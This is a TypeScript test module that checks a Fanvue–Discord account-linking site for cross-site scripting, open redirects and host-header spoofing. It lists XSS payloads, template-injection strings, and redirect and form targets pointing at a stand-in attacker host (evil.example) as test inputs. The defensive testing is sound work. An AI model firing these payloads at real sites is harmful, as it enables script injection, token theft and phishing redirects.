/** Names and parameters that would like to be more than text, and addresses that would like to lead elsewhere. */
import { allowCodes } from "./codes.ts";
import assert from "node:assert/strict";

import type { Grounds } from "./grounds.ts";
import type { Trials } from "./tally.ts";
import { comeBack, confirm, formToken, goOutAndBack, ready, signedIn, typeInboxCode } from "./ways.ts";

/** The judge of answers finds every tag and attribute that is not the site's own. */
const payloads = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `' onmouseover='alert(1)`,
  `" autofocus onfocus="alert(1)`,
  `</title><svg onload=alert(1)>`,
  `</bdi></main><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<form action="https://evil.example"><input name=form_token>`,
  `<style>*{display:none}</style>`,
  `<!--`,
  `]]><script>alert(1)</script>`,
  `\u2028<script>alert(1)</script>`,
  `\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
  `\ufeff<script>`,
  `＜script＞alert(1)＜/script＞`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#x3c;script>`,
  `\${7*7}{{7*7}}<%= 7*7 %>`,
  "a\u0300".repeat(50),
] as const;

const turning = /[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/;

export async function nameOneself(grounds: Grounds, { attempt }: Trials): Promise<void> {
  const { open, home } = grounds;
  for (const [index, payload] of payloads.entries()) {
    const person = grounds.newFan(`named-${String(index)}`);
    const user = home.town.discord.world.users.get(person.discord) ?? assert.fail("no such user");
    Object.assign(person.fan, { handle: payload, displayName: `\u202e${payload}` });
    user.globalName = `\u2066${payload}\u200b`;
    await attempt(`somebody named ${JSON.stringify(payload)}`, async () => {
      const visitor = await ready(open, person);
      const pages = [await visitor.get("/"), await visitor.get("/choose"), await visitor.get("/confirm")];
      await confirm(visitor);
      grounds.allowLinks();
      pages.push(
        await visitor.get("/done"),
        await visitor.get("/mine"),
        await visitor.get(`/unlink?account=${person.discord}`),
      );
      assert.deepEqual(
        pages.map(({ status }) => status),
        [200, 200, 200, 200, 200, 200],
      );
      return pages.some(({ text }) => turning.test(text)) ? "turns the direction of writing" : undefined;
    });
  }
}

export async function typeOddThings(grounds: Grounds, { attempt }: Trials): Promise<void> {
  const { open } = grounds;
  const person = grounds.newFan("typist");
  const visitor = await signedIn(open, person);
  const token = await formToken(visitor);
  for (const [index, payload] of payloads.entries()) {
    if (index % 15 === 0) await allowCodes(grounds);
    const written = encodeURIComponent(payload);
    for (const path of [
      `/${written}`,
      `/invite/${written}`,
      `/?${written}=${written}`,
      `/link?fanvue_uuid=${written}`,
      `/callback?code=${written}&state=${written}`,
      `/callback?error=${written}&error_description=${written}&error_uri=${written}`,
      `/unlink?account=${written}`,
      `/fanvue/code?again=${written}`,
    ])
      await attempt(`GET ${path}`, async () => {
        await visitor.get(path);
        await open.visitor().get(path);
        return undefined;
      });
    await attempt(`${JSON.stringify(payload)} in every field`, async () => {
      const fresh = open.visitor();
      await fresh.submit("/fanvue/code?again", "/fanvue/code", { handle: payload });
      await typeInboxCode(fresh, payload);
      await fresh.get("/fanvue/code");
      await visitor.post("/callback", { form_token: token, code: payload, state: payload });
      await visitor.post("/matrix", { form_token: token, mxid: payload });
      const again = await visitor.get("/matrix");
      assert.ok(again.text.includes('aria-invalid="true"'), "what was typed is shown again");
      return undefined;
    });
  }
  await attempt("a code that is a script, brought back by Fanvue", async () => {
    const fresh = open.visitor();
    const back = await goOutAndBack(fresh, "fanvue", person);
    const odd = back.replace(/code=[^&]*/, `code=${encodeURIComponent(payloads[1])}`);
    const answer = await comeBack(fresh, odd);
    return answer.status < 400 ? "is taken" : undefined;
  });
}

// ---- Elsewhere --------------------------------------------------------------------------------------------------

const elsewhere = [
  "https://evil.example",
  "//evil.example",
  "/\\evil.example",
  "/%5cevil.example",
  "/%2fevil.example",
  "https:evil.example",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "/..//evil.example",
  "http://localhost@evil.example",
] as const;

/** The judge of answers finds every redirect, link and form that does not stay here. */
export async function leadElsewhere(grounds: Grounds, { attempt }: Trials): Promise<void> {
  const { open } = grounds;
  const person = grounds.newFan("led");
  const visitor = await signedIn(open, person);
  const token = await formToken(visitor);
  const names = ["next", "url", "redirect", "redirect_uri", "return_to", "continue", "goto", "back", "iss"];
  for (const to of elsewhere) {
    const query = new URLSearchParams(Object.fromEntries(names.map((name) => [name, to]))).toString();
    for (const path of [
      "/",
      "/choose",
      "/link",
      "/away/fanvue",
      "/away/discord",
      "/done",
      "/callback",
      "/mine",
    ])
      await attempt(`GET ${path}?…=${to}`, async () => {
        await visitor.get(`${path}?${query}`);
        return undefined;
      });
    await attempt(`signing in with ${to} beside`, async () => {
      const fields = { form_token: token, ...Object.fromEntries(names.map((name) => [name, to])) };
      for (const path of ["/fanvue/sign-in", "/discord/sign-in"]) {
        await visitor.post(`${path}?${query}`, fields);
        const away = await visitor.get(path === "/fanvue/sign-in" ? "/away/fanvue" : "/away/discord");
        if (away.text.includes("evil.example")) return "leads there";
      }
      return undefined;
    });
    for (const headers of [
      { host: "evil.example" },
      { host: "evil.example:80" },
      { "x-forwarded-host": "evil.example" },
      { "x-forwarded-proto": "javascript" },
      { forwarded: "host=evil.example" },
      { "x-original-url": to },
      { "x-rewrite-url": to },
      { referer: to },
    ])
      await attempt(`the headers ${JSON.stringify(headers)} and ${to}`, async () => {
        const answers = [
          await visitor.send("/", { headers }),
          await visitor.send("/confirm", { headers }),
          await visitor.send("/nowhere", { headers }),
          await visitor.post("/fanvue/sign-in", { form_token: token }, headers),
          await visitor.send("/away/fanvue", { headers }),
        ];
        return answers.some(({ text, headers: { location } }) =>
          `${text} ${String(location)}`.includes("evil.example"),
        )
          ? "leads there"
          : undefined;
      });
  }
}
